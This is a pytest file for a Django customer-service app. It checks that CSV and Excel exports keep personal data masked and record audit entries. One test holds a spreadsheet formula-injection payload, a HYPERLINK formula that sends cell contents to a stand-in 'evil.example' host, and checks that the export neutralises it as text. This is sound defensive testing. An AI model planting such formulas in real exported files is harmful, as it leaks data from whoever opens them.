"""S2: every list page as CSV or Excel, as the page shows it (masked); an export of a list with
customers' personal data is an audit row (pii.export)."""

import csv
import io

import openpyxl
import pytest

from servicehall.cases import services as cases
from servicehall.core.models import AuditLog
from tests import factories
from tests.conftest import client_for


@pytest.fixture
def case(hall, clerk):
    return cases.open_case(
        clerk,
        kind="work_order",
        channel="hotline",
        category="other",
        description="客户反映宽带 13812345678 时断时续",
        subject="宽带时断时续 13812345678",
    )


def _csv(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_s2_case_list_exports_as_shown_and_audited(case, clerk):
    c = client_for(clerk)
    got = c.get("/cases/", {"scope": "mine", "export": "csv"})
    assert got.status_code == 200 and got["Content-Type"].startswith("text/csv")
    rows = _csv(got)
    assert rows[0][:3] == ["编号", "类型", "主题"]
    assert rows[1][0] == case.number
    assert "13812345678" not in got.content.decode("utf-8-sig")  # masked as on the page
    audit = AuditLog.objects.filter(action=AuditLog.Action.PII_EXPORT, object_type="case")
    assert audit.count() == 1 and audit[0].actor == clerk and "1 rows" in audit[0].reason
    x = c.get("/cases/", {"scope": "mine", "export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(x.content)).active
    assert sheet.cell(2, 1).value == case.number
    assert audit.count() == 2
    page = c.get("/cases/", {"scope": "mine"})
    assert 'id="export-csv"' in page.text and "export=xlsx" in page.text


def test_s2_customer_search_export_is_masked_and_audited(hall, clerk):
    factories.make_customer(phone="13912345678", name="欧阳娜娜")
    c = client_for(clerk)
    got = c.get("/customers/", {"q": "5678", "export": "csv"})
    text = got.content.decode("utf-8-sig")
    assert "欧阳娜娜" not in text and "13912345678" not in text and "5678" in text
    assert AuditLog.objects.filter(
        action=AuditLog.Action.PII_EXPORT, object_type="customer", actor=clerk
    ).exists()


def test_s2_ticket_drill_down_export_is_not_personal(hall, manager, device):
    from servicehall.queueing import services as queue

    queue.issue_ticket(device, hall, "payment")
    from django.utils import timezone

    got = client_for(manager).get(
        "/reports/service/tickets",
        {"period": "day", "on": timezone.localdate().isoformat(), "export": "csv"},
    )
    rows = _csv(got)
    assert len(rows) == 2 and rows[0][1] == "号码"
    assert not AuditLog.objects.filter(action=AuditLog.Action.PII_EXPORT).exists()


def test_s2_a_customers_formula_reaches_the_sheet_as_text(hall, clerk):
    """A subject a customer or clerk typed as "=HYPERLINK(…)" must not become a live formula in
    the manager's Excel (nor a command in a CSV opened there): it is written with a leading
    apostrophe, as text."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    cases.open_case(
        clerk, kind="work_order", channel="hotline", category="other", description="x", subject=evil
    )
    c = client_for(clerk)
    x = c.get("/cases/", {"scope": "mine", "export": "xlsx"})
    cell = openpyxl.load_workbook(io.BytesIO(x.content)).active.cell(2, 3)
    assert cell.value == "'" + evil and cell.data_type == "s"
    rows = _csv(c.get("/cases/", {"scope": "mine", "export": "csv"}))
    assert rows[1][2] == "'" + evil
